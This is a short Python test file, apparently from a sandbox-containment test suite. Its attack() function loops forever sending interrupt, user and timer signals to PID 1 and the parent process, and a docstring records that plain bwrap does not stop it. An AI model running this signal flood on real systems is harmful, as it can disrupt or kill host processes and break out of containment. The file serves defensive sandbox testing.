"""Floods whoever is above it with every signal that has a handler there.

stopped_by: the agent's deadline; the init only passes the request on
plain bwrap: succeeds
"""

import os


def attack():
    above = (1, os.getppid())
    while True:
        for number in (2, 10, 12, 14, 41, 42, 43):
            for pid in above:
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
